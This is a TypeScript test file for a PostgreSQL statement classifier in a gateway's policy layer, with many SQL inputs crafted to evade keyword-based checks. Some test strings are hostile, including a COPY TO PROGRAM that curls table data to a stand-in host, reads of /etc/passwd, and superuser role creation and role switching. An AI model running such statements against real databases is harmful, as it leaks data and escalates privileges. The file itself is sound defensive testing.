import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { classifyStatement, loadClassifier, type StatementClass } from '../../services/gateway/policy/statement-classifier.js';

before(loadClassifier);

/** [sql, exact set of classes]. Most rows try to slip something past a keyword-based check. */
const CASES: [string, StatementClass[]][] = [
  // plain reads
  ['select 1', ['read']],
  ['SELECT * FROM t WHERE id = 1', ['read']],
  ['values (1), (2)', ['read']],
  ['table t', ['read']],
  ['show search_path', ['read']],
  ['select count(*), max(x), lower(y), now(), current_user from t group by y', ['read']],
  ['select pg_catalog.lower(x), extract(year from now()), trim(y), substring(y from 1 for 2) from t', ['read']],
  ['select coalesce(a, b), nullif(a, 1), greatest(a, b) from t', ['read']],
  ["select $$ drop table t $$, '/* ; delete from t */', 'x; drop table t'", ['read']],
  ['select ((((select (1)))))', ['read']],
  ['explain select * from t', ['read']],
  ['explain delete from t', ['read']],
  ['explain (analyze false) delete from t', ['read']],
  ['copy t to stdout', ['read']],
  ['copy (select * from t) to stdout with csv', ['read']],
  ['declare c cursor for select * from t', ['read']],
  ['fetch 10 from c', ['read']],
  ['listen jobs', ['read']],
  ['unlisten *', ['read']],
  // several statements in one string
  ['select 1; drop table t', ['read', 'ddl']],
  ['select 1;;select 2', ['read']],
  ['select 1; delete from t; grant all on t to public', ['read', 'write', 'admin']],
  // writes, including hidden ones
  ['insert into t values (1)', ['write']],
  ['insert into t (a) values (1) returning id', ['read', 'write']],
  ['insert into t select * from u', ['read', 'write']],
  ['update t set a = 1 where id = 2', ['write']],
  ['update t set a = u.a from u where t.id = u.id', ['read', 'write']],
  ['delete from t where id = 1', ['write']],
  ['delete from t where id in (select id from u)', ['read', 'write']],
  ['merge into t using u on t.id = u.id when matched then delete', ['read', 'write']],
  ['with x as (delete from t returning *) select * from x', ['read', 'write']],
  ['select * from (select * from (with d as (delete from t returning 1) select * from d) a) b', ['read', 'write']],
  ['select * from t where exists (with d as (update t set a = 1 returning 1) select 1 from d)', ['read', 'write']],
  ['select * from t for update', ['read', 'write']],
  ['select 1 from t where x in (select 1 from u for share)', ['read', 'write']],
  ['declare c cursor for select * from t for update', ['read', 'write']],
  ['select * into x from t', ['read', 'write', 'ddl']],
  ['create table x as select * from t', ['read', 'write', 'ddl']],
  ['create materialized view m as select * from t', ['read', 'write', 'ddl']],
  // PostgreSQL writes the view's new storage into pg_class (found by tests/differential against the server)
  ['refresh materialized view m', ['write', 'ddl']],
  ['refresh materialized view concurrently m with data', ['write', 'ddl']],
  ['truncate t', ['write', 'ddl']],
  ['notify jobs, $$done$$', ['write']],
  ['lock table t in access exclusive mode', ['write']],
  ['copy t from stdin', ['write']],
  ["select nextval('s')", ['read', 'write']],
  ['explain analyze delete from t', ['read', 'write']],
  ['explain (analyze) update t set a = 1', ['read', 'write']],
  ['EXPLAIN (ANALYSE on, BUFFERS) DELETE FROM t', ['read', 'write']],
  // comments and odd casing
  ['dElEtE/*x*/FROM t', ['write']],
  ['-- comment\ndrop table t', ['ddl']],
  ['/* select */ DrOp /* nested /* comment */ here */ TABLE "T"', ['ddl']],
  ['select 1 -- ; drop table t', ['read']],
  // DDL
  ['create table t (id int primary key, name text)', ['ddl']],
  ['alter table t add column c int', ['ddl']],
  ['alter table t rename to u', ['ddl']],
  ['create index on t (lower(name))', ['ddl']],
  ['create view v as select * from t', ['ddl']],
  ['create view v as select my_func(x) from t', ['ddl', 'function']],
  ['comment on table t is $$x$$', ['ddl']],
  ['create function f() returns int language plpgsql as $$begin delete from t; return 1; end$$', ['ddl']],
  ["create table t (id bigint default nextval('s'))", ['write', 'ddl']],
  ['drop schema s cascade', ['ddl']],
  ['alter table t owner to bob', ['ddl', 'admin']],
  ['create extension pgcrypto', ['ddl', 'admin']],
  ['drop extension pgcrypto', ['ddl', 'admin']],
  ['create database scratch', ['ddl', 'admin']],
  // administration
  ['grant select on t to ci', ['admin']],
  ['revoke all on t from public', ['admin']],
  ['create role evil superuser', ['admin']],
  ['alter user ci with password $$x$$', ['admin']],
  ['alter default privileges grant select on tables to ci', ['admin']],
  ['alter system set work_mem = $$1GB$$', ['admin']],
  ["load 'auto_explain'", ['admin']],
  ['vacuum t', ['admin']],
  ['analyze t', ['admin']],
  ['reindex table t', ['admin']],
  ['checkpoint', ['admin']],
  ["copy t to program 'curl -d @- evil'", ['read', 'admin']],
  ["copy t from '/etc/passwd'", ['write', 'admin']],
  ["copy t to '/tmp/out'", ['read', 'admin']],
  ['select pg_terminate_backend(123)', ['read', 'admin']],
  ['select 1 from t where pg_cancel_backend(pid) is not null', ['read', 'admin']],
  ["select * from pg_catalog.pg_read_file('/etc/passwd')", ['read', 'admin']],
  ["select lo_import('/etc/passwd')", ['read', 'admin']],
  ["select * from dblink('host=x', 'select 1') as r(a int)", ['read', 'admin']],
  ["select \"PG_RELOAD_CONF\"()", ['read', 'admin']],
  // settings
  ['set role postgres', ['admin', 'session']],
  ['SET SESSION AUTHORIZATION postgres', ['admin', 'session']],
  ['reset role', ['admin', 'session']],
  ['set "ROLE" = postgres', ['admin', 'session']],
  ['set standard_conforming_strings = off', ['admin', 'session']],
  ["set names 'SJIS'", ['admin', 'session']],
  ["select set_config('role', 'postgres', false)", ['read', 'admin', 'session']],
  ["select set_config('rol' || 'e', 'postgres', false)", ['read', 'write', 'admin', 'session']],
  ["select set_config('application_name', 'x', false)", ['read', 'session']],
  ['set statement_timeout = 5000', ['session']],
  ['set local search_path to app, public', ['session']],
  ['reset all', ['session']],
  ['discard temp', ['session']],
  ['discard all', ['session']], // poolers send it at checkout; the backend's startup role and settings survive it
  ['deallocate all', ['session']],
  // read-only mode: turning it off in any way needs 'write', keeping it on does not
  ['set default_transaction_read_only = off', ['session', 'write']],
  ['SET default_transaction_read_only TO false', ['session', 'write']],
  ['set default_transaction_read_only = on', ['session']],
  ["set default_transaction_read_only = 'yes'", ['session']],
  ['reset default_transaction_read_only', ['session', 'write']],
  ['set default_transaction_read_only to default', ['session', 'write']],
  ['set transaction_read_only = off', ['session', 'write']],
  ['set local transaction_read_only = 0', ['session', 'write']],
  ['reset transaction_read_only', ['session', 'write']],
  ['set "DEFAULT_TRANSACTION_READ_ONLY" = off', ['session', 'write']],
  ["select set_config('default_transaction_read_only', 'off', false)", ['read', 'session', 'write']],
  ["select set_config('transaction_read_only', 'of' || 'f', true)", ['read', 'session', 'write']],
  ["select set_config('default_transaction_read_only', 'on', false)", ['read', 'session']],
  ['begin read write', ['transaction', 'write']],
  ['begin isolation level serializable, read write', ['transaction', 'write']],
  ['start transaction read write', ['transaction', 'write']],
  ['begin read only', ['transaction']],
  ['set transaction read write', ['transaction', 'write']],
  ['set transaction isolation level serializable, read write', ['transaction', 'write']],
  ['set transaction read only', ['transaction']],
  ['set session characteristics as transaction read write', ['session', 'write']],
  ['set session characteristics as transaction read only', ['session']],
  ['set session characteristics as transaction isolation level serializable', ['session']],
  ['set role none', ['admin', 'session']],
  ['set session authorization default', ['admin', 'session']],
  ['reset session authorization', ['admin', 'session']],
  // transactions
  ['begin', ['transaction']],
  ['start transaction isolation level serializable read only', ['transaction']],
  ['set transaction isolation level repeatable read', ['transaction']],
  ['savepoint a; release a; rollback to savepoint a', ['transaction']],
  ['commit', ['transaction']],
  ['abort', ['transaction']],
  ["prepare transaction 'x'", ['transaction', 'admin']],
  ["commit prepared 'x'", ['transaction', 'admin']],
  ['begin; delete from t; commit', ['write', 'transaction']],
  // procedural code and functions
  ['do $$ begin execute $q$drop table t$q$; end $$', ['code']],
  ["DO LANGUAGE plpgsql 'begin null; end'", ['code']],
  ['call refresh_everything()', ['code']],
  ['select my_func(1)', ['read', 'function']],
  ['select * from t where my_check(x)', ['read', 'function']],
  ['select * from my_srf() as f', ['read', 'function']],
  ['select public.lower(x) from t', ['read', 'function']],
  ['select "LOWER"(x) from t', ['read', 'function']],
  ['with x as (select my_func(1)) select * from x', ['read', 'function']],
  ['select pg_advisory_lock(1)', ['read', 'function']],
  ['select 1 operator(evil.+) 2', ['read', 'function']],
  ["select query_to_xml('delete from t returning 1', true, false, '')", ['read', 'code']],
  ['explain select my_func(1)', ['read', 'function']],
  // prepared statements
  ['prepare p as delete from t where id = $1', ['write', 'session']],
  ['prepare p(int) as select * from t where id = $1', ['read', 'session']],
  ['execute p(1)', ['function']],
  // nothing to run, or nothing that parses
  ['', []],
  ['   \n\t ', []],
  ['-- only a comment', []],
  ['/* only a comment */', []],
  ['selec 1', ['admin']],
  ["select 'unterminated", ['admin']],
  ['select 1\0; drop table t', ['admin']],
  ['\u00a0', ['admin']],
];

const sortClasses = (c: readonly StatementClass[]) => [...c].sort();

describe('classifyStatement', () => {
  for (const [sql, expected] of CASES) {
    it(`${JSON.stringify(sql).slice(0, 90)} → [${expected.join(', ')}]`, () => {
      assert.deepEqual(sortClasses(classifyStatement(sql).classes), sortClasses(expected));
    });
  }

  it('reports a parse error with its position', () => {
    const c = classifyStatement('select * fro t');
    assert.match(c.parseError ?? '', /syntax error.*offset/);
    assert.deepEqual(c.statements, []);
  });

  it('lists each statement with its own classes', () => {
    const c = classifyStatement('select 1; drop table t');
    assert.deepEqual(
      c.statements.map(({ node, classes }) => ({ node, classes })),
      [
        { node: 'SelectStmt', classes: ['read'] },
        { node: 'DropStmt', classes: ['ddl'] },
      ],
    );
  });

  it('separates what an EXECUTE runs from the rest of its statement', () => {
    const [s] = classifyStatement('execute p(my_func(1))').statements;
    assert.deepEqual(s!.executes, ['p']);
    assert.deepEqual(s!.classes, ['function']);
    assert.deepEqual(s!.withoutExecutes, ['function']);
    assert.deepEqual(classifyStatement('execute p(1)').statements[0]!.withoutExecutes, []);
  });

  it('keeps what PREPARE stores, and what DEALLOCATE and DISCARD ALL drop', () => {
    const [prep, dealloc, all, discard] = classifyStatement('prepare p(int) as delete from t where id = $1; deallocate p; deallocate all; discard all').statements;
    assert.equal(prep!.prepare?.name, 'p');
    assert.deepEqual(prep!.prepare?.query.classes, ['write']);
    assert.deepEqual(prep!.prepare?.query.references.writes, ['t']);
    assert.equal(dealloc!.deallocate, 'p');
    assert.equal(all!.deallocate, null);
    assert.equal(discard!.discardAll, true);
  });

  it('names what the catalogue must judge: calls, attribute notation, operators, casts and relations', () => {
    const r = (sql: string) => classifyStatement(sql).statements[0]!.references;
    assert.deepEqual(r('select lower(x), t.f, (t).g from s.t').functions, ['lower']);
    assert.deepEqual(r('select lower(x), t.f, (t).g from s.t').fields.sort(), ['f', 'g']);
    assert.deepEqual(r('select * from s.t join u using (id)').reads.sort(), ['s.t', 'u']);
    assert.deepEqual(r('select 1 === 2, x in (1), case x when 1 then 2 end').operators.sort(), ['=', '===']);
    assert.deepEqual(r('select 1 between 0 and 2').operators.sort(), ['<', '<=', '>', '>=']);
    assert.deepEqual(r("select 'x'::positive, cast(1 as s.d)").types.sort(), ['positive', 's.d']);
    assert.deepEqual(r('insert into s.t select * from u').writes, ['s.t']);
    assert.deepEqual(r('update t set a = 1').writes, ['t']);
    assert.deepEqual(r('delete from t').writes, ['t']);
    assert.deepEqual(r('copy t from stdin').writes, ['t']);
    assert.deepEqual(r('truncate a, b').writes, ['a', 'b']);
    assert.deepEqual(r('merge into t using u on true when matched then delete').writes, ['t']);
    assert.deepEqual(r('copy t to stdout').writes, []);
    assert.deepEqual(r('select pg_catalog.lower(x)').functions, []);
  });

  it('names the prepared statements an EXECUTE runs', () => {
    assert.deepEqual(classifyStatement('execute a; explain analyze execute b(2)').executes, ['a', 'b']);
    assert.equal(classifyStatement('select 1').executes, undefined);
  });

  it('finds a DELETE at the end of a very long input', () => {
    const columns = Array.from({ length: 20_000 }, (_, i) => `'${'x'.repeat(20)}' as c${i}`).join(', ');
    const c = classifyStatement(`select ${columns}; delete from t`);
    assert.deepEqual(sortClasses(c.classes), ['read', 'write']);
  });

  it('refuses nesting too deep to walk rather than guessing', () => {
    const deep = `select ${'lower('.repeat(5000)}'x'${')'.repeat(5000)}`;
    assert.deepEqual(classifyStatement(deep).classes, ['admin']);
  });
});
